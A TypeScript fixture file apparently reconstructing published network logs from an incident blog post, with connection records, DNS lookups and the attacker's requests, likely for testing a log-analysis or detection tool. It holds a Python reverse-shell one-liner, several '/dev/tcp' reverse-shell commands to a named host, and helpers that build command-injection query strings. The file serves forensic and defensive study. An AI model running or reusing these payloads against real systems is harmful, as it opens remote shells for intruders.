// The case of the blog post "Nettverksanalyse i skyen" (2023): what was published of its logs, as plain values. The operator's and the
// attacker's client are not published in full; they stand here with addresses of their own.

/** 4 March 2023, 00:00 UTC, seconds since the epoch. */
const midnight = 1_677_888_000;

/** Seconds since the epoch of a time of that evening. */
export const evening = (clock: string): number => {
  const [hours = 0, minutes = 0, seconds = 0] = clock.split(':').map(Number);
  return midnight + hours * 3600 + minutes * 60 + seconds;
};

export const machine = '172.31.6.55';
export const shellEnd = { address: '35.217.6.162', port: 3000 };
export const attacker = '212.56.1.9';
export const operator = '18.202.216.51';
export const github = '140.82.121.3';
const jokes = '104.21.41.162';

export interface Connection {
  readonly at: number;
  readonly client: string;
  readonly server: string;
  readonly seconds: number;
  readonly service?: string;
  readonly sentBytes: number;
  readonly receivedBytes: number;
  /** Only a tail of it was seen, with the ends swapped. */
  readonly swapped?: true;
}

/** Request of the attacker, oldest first: rows of the log are out of order all the same. */
export const payloads: readonly { readonly at: number; readonly command: string }[] = [
  {
    at: evening('21:37:13'),
    command:
      'export RHOST="35.217.6.162";export RPORT=3000;python3 -c \'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("sh")\'',
  },
  ...['21:38:45', '21:42:56', '21:43:39', '21:44:57', '21:48:39', '21:49:16', '21:47:33'].map((clock) => ({
    at: evening(clock),
    command: 'sh -i >& /dev/tcp/35.217.6.162/3000 0>&1',
  })),
];

/** The reverse shells: 281.74 + 65.19 + 61.97 + 60.24 = 469.14 s. */
export const shells: readonly Connection[] = (
  [
    ['21:38:41', 53_000, 281.74],
    ['21:43:40', 43_778, 65.19],
    ['21:44:57', 33_450, 61.97],
    ['21:47:33', 39_858, 60.24],
  ] as const
).map(([clock, port, seconds]) => ({
  at: evening(clock),
  client: `${machine}:${port}`,
  server: `${shellEnd.address}:${shellEnd.port}`,
  seconds,
  sentBytes: 6000,
  receivedBytes: 60,
}));

export const others: readonly Connection[] = [
  {
    at: evening('21:30:00'),
    client: `${operator}:29442`,
    server: `${machine}:22`,
    seconds: 1386.5,
    service: 'ssh',
    sentBytes: 9000,
    receivedBytes: 30_000,
  },
  {
    at: evening('21:30:20'),
    client: `${operator}:63325`,
    server: `${machine}:22`,
    seconds: 1369.1,
    service: 'ssh',
    sentBytes: 8000,
    receivedBytes: 20_000,
  },
  {
    at: evening('21:39:10'),
    client: `${machine}:41000`,
    server: `${github}:443`,
    seconds: 0.8,
    service: 'ssl',
    sentBytes: 900,
    receivedBytes: 9000,
  },
  {
    at: evening('21:37:00'),
    client: `${machine}:41002`,
    server: `${jokes}:443`,
    seconds: 0.4,
    service: 'ssl',
    sentBytes: 700,
    receivedBytes: 4000,
  },
  // The server's side of a client's connection that had timed out: a naive rule would call it outbound.
  {
    at: evening('21:41:00'),
    client: `${machine}:3000`,
    server: `${attacker}:52297`,
    seconds: 68,
    sentBytes: 500,
    receivedBytes: 0,
    swapped: true,
  },
];

export const names: readonly { readonly at: number; readonly query: string; readonly address: string }[] = [
  { at: evening('21:36:59'), query: 'api.chucknorris.io', address: jokes },
  { at: evening('21:39:09'), query: 'github.com', address: github },
];

/** Request target as the attacker sent it. */
export const sentTarget = (command: string): string => `/dangerzone?category=${encodeURIComponent(`&&${command}`)}`;
/** The same as Zeek writes it: decoded once. */
export const loggedTarget = (command: string): string => `/dangerzone?category=&&${command}`;
